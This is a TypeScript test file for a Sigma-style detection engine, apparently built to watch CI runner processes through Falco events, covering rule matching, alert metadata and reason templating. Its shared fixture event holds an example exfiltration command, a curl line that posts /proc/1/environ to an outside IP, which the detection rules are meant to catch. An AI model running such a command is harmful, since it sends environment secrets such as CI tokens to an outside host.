import { describe, expect, it } from "vitest";
import { createDetection, loadRuleset } from "../../src/detection/detection.ts";
import type { Event } from "../../src/event/event.ts";

interface RuleText {
  readonly logsource?: string;
  readonly selection: string;
  readonly pipewarden?: string;
}

function detectionOf(...texts: readonly RuleText[]) {
  const files = texts.map(({ logsource, selection, pipewarden }, index) => ({
    path: `rules/${index}.yml`,
    text: `title: Rule ${index}
id: 00000000-0000-4000-8000-00000000000${index}
status: test
description: Under test.
level: high
tags: [attack.t1048]
falsepositives: [Somebody's script.]
logsource: {${logsource ?? "product: linux, category: process_creation"}}
detection:
  selection: ${selection}
  condition: selection
${pipewarden === undefined ? "" : `pipewarden: ${pipewarden}\n`}`,
  }));
  const { ruleset, problems } = loadRuleset({ files, lists: new Map() });
  expect(problems).toEqual([]);
  return createDetection(ruleset);
}

const event: Event = {
  id: "falco:1",
  feed: "falco",
  logsource: { product: "linux", category: "process_creation", service: "falco" },
  occurredAt: 1_000,
  receivedAt: 1_200,
  timeSource: "feed",
  fields: {
    "process.executable": "/usr/bin/curl",
    "process.command_line": "curl -d @/proc/1/environ http://198.51.100.7/",
    "user.name": "runner",
    "pipewarden.process.ancestors": ["sh", "node", "Runner.Worker"],
  },
  join: {},
  raw: "{}",
};

describe("detection", () => {
  it("gives one match for each rule that holds", () => {
    const detection = detectionOf(
      { selection: "{Image|endswith: /curl, CommandLine|contains: environ}" },
      { selection: "{proc.cmdline|contains: environ}" },
      { selection: "{Image|endswith: /wget}" },
      { selection: "{Image|endswith: /curl}", logsource: "category: proxy" },
    );
    const found = detection.detect(event);
    expect(found.map(({ match, alerts }) => [match.rule.title, alerts])).toEqual([
      ["Rule 0", true],
      ["Rule 1", true],
    ]);
    expect(found[0]?.match).toMatchObject({
      reason: "Rule 0",
      occurredAt: 1_000,
      receivedAt: 1_200,
      group: [],
      events: [event],
      eventCount: 1,
    });
    expect(detection.detect({ ...event, logsource: { product: "windows" } })).toEqual([]);
  });

  it("gives the same id to the same rule and event, and to no other pair", () => {
    const detection = detectionOf({ selection: "{User: runner}" }, { selection: "{User: runner}" });
    const ids = [event, event, { ...event, id: "falco:2" }].map((one) =>
      detection.detect(one).map(({ match }) => match.id),
    );
    expect(ids[0]).toEqual(ids[1]);
    expect(new Set(ids.flat()).size).toBe(4);
    expect(ids[0]?.[0]).toMatch(/^mat_[0-9a-f]{24}$/);
  });

  it("carries what an alert needs to know of the rule, under our field names", () => {
    const pipewarden = `
  page: true
  response: [Cancel the run.]
  runbook: docs/rules.md
  dedupe: {by: [User, cicd.pipeline.run.id], for: 2h}
  causes: {actor: User}`;
    const [found] = detectionOf({ selection: "{User: runner}", pipewarden }).detect(event);
    expect(found?.match.rule).toEqual({
      id: "00000000-0000-4000-8000-000000000000",
      title: "Rule 0",
      level: "high",
      tags: ["attack.t1048"],
      page: true,
      response: ["Cancel the run."],
      falsePositives: ["Somebody's script."],
      runbook: "docs/rules.md",
      dedupe: ["user.name", "cicd.pipeline.run.id"],
      dedupeMs: 7_200_000,
      causes: { actor: "user.name" },
    });
  });

  it.each([
    ["{user.name} ran {process.executable}", {}, "runner ran /usr/bin/curl"],
    ["{User} ran {Image}", {}, "runner ran /usr/bin/curl"],
    ["in {container.name}", {}, "in unknown"],
    ["{constructor} {__proto__}", {}, "unknown unknown"],
    ["from {pipewarden.process.ancestors}", {}, "from sh, node, Runner.Worker"],
    ["a {not a field} b", {}, "a {not a field} b"],
    ["{user.name}", { "user.name": "a\nb\u202e\u0007" }, "a\\u000ab\\u202e\\u0007"],
    ["{user.name}", { "user.name": "{process.executable} $& $1" }, "{process.executable} $& $1"],
    ["{user.name}", { "user.name": "x".repeat(500) }, `${"x".repeat(200)}…`],
    ["{user.name}", { "user.name": null }, "unknown"],
    ["{user.name}", { "user.name": [] }, "unknown"],
    ["{user.name}", { "user.name": 0 }, "0"],
    ["{user.name}", { "user.name": [1, 2, 3, 4, 5, 6, 7] }, "1, 2, 3, 4, 5, and 2 more"],
  ])("fills the reason %j", (reason, fields, expected) => {
    const detection = detectionOf({
      selection: "{Image|endswith: /curl}",
      pipewarden: JSON.stringify({ reason }),
    });
    const [found] = detection.detect({ ...event, fields: { ...event.fields, ...fields } });
    expect(found?.match.reason).toBe(expected);
  });

  it.each([
    ["connect", "egress", true],
    ["sendto", undefined, true],
    ["accept4", undefined, false],
    [undefined, "egress", true],
    [undefined, undefined, false],
    ["ptrace", "egress", false],
  ])("derives Initiated from the call %s and the direction %s", (call, direction, held) => {
    const logsource = "product: linux, category: network_connection";
    const detection = detectionOf({ logsource, selection: "{Initiated: 'true'}" });
    const fields = {
      ...(call === undefined ? {} : { "pipewarden.falco.evt.type": call }),
      ...(direction === undefined ? {} : { "network.direction": direction }),
    };
    const connection = { product: "linux", category: "network_connection" };
    expect(detection.detect({ ...event, logsource: connection, fields })).toHaveLength(
      held ? 1 : 0,
    );
  });

  it("searches keywords in the values of fields, lists included, and not in their names", () => {
    const detection = detectionOf({ selection: "[Runner.Worker]" }, { selection: "[ancestors]" });
    expect(detection.detect(event).map(({ match }) => match.rule.title)).toEqual(["Rule 0"]);
  });
});
